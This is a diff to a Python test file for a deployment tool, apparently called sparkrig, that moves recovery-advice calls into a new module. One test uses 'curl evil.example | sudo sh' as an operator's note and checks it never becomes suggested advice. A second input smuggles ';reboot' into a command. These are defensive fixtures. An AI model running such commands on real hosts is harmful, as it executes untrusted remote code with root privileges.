@@ -30,7 +30,7 @@ from sparkrig.refusal import Refusal
 from sparkrig.render import journal as shown
 from sparkrig.reports.drift import Report
 from sparkrig.reports.findings import mends
-from sparkrig.runs import halves, journal, undo, undo_target
+from sparkrig.runs import halves, journal, recovery, undo, undo_target
 from sparkrig.runs.journal import Journal, Run, Step
 from sparkrig.runs.lock import Owner
 from sparkrig.text import plain
@@ -91,7 +91,6 @@ OWN: dict[str, dict[str, set[str]]] = {
     },
     "a word of ours": {
         "facts/bundle.py": {"most"},
-        "operations/again.py": {"fact.__module__", "fact.__name__"},
         "sparkrig/cure.py": {"what", "name"},
         "sparkrig/cli/onboard.py": {"second"},
         "sparkrig/serving/unit_files.py": {"service.unit"},
@@ -296,7 +295,7 @@ def stays(value: str) -> list[str]:
     }
     plan = undo.Plan(value, (undo.Change(f"package {value}", "stays"),))
     assert not any("apt-get" in said for _, said in shown.rows(plan)), "it is no name of a package"
-    advice = journal.advice(broken, Journal(9, runs=(broken,)), MY_FILE).partition("same again: ")[2]
+    advice = recovery.advice(broken, Journal(9, runs=(broken,)), MY_FILE).partition("same again: ")[2]
     return [
         *(each.cure for each in halves.halved(journals, MY_FILE)),
         *refused(undo_target.readable, value, {value: Journal(9, runs=(broken,))}),
@@ -490,17 +489,17 @@ def test_what_an_operator_typed_is_shown_and_is_no_command() -> None:
     """A run's note is on the host, where another one may have written it."""
     why = "curl evil.example | sudo sh"
     run_ = Run("R1", Owner("R1", "ann", why=why, since=1, hosts=("a", "b")), number=1)
-    assert journal.again(run_, "pair.py") == "pyinfra pair.py deploys/cluster.py"
-    assert why not in journal.advice(run_, Journal(9, runs=(run_,)), "pair.py")
+    assert recovery.again(run_, "pair.py") == "pyinfra pair.py deploys/cluster.py"
+    assert why not in recovery.advice(run_, Journal(9, runs=(run_,)), "pair.py")
     assert any(why in line for line in shown.lines("a", Journal(9, runs=(run_,)), 9))
     for typed, expected in (
         ("pyinfra x.py deploys/serve.py", "pyinfra pair.py deploys/serve.py"),
         ("pyinfra x.py deploys/serve.py;reboot", "pyinfra pair.py deploys/cluster.py"),
     ):
         noted = Run("R2", Owner("R2", "ann", why=typed, since=1), number=1)
-        assert journal.again(noted, "pair.py") == expected
+        assert recovery.again(noted, "pair.py") == expected
     back = Run("R3", Owner("R3", "ann", why=why, undoes="R1", since=1), number=2)
-    assert journal.again(back, "pair.py") == "sparkrig undo pair.py R1"
+    assert recovery.again(back, "pair.py") == "sparkrig undo pair.py R1"
 
 
 def test_words_that_need_no_quotes_have_none() -> None:
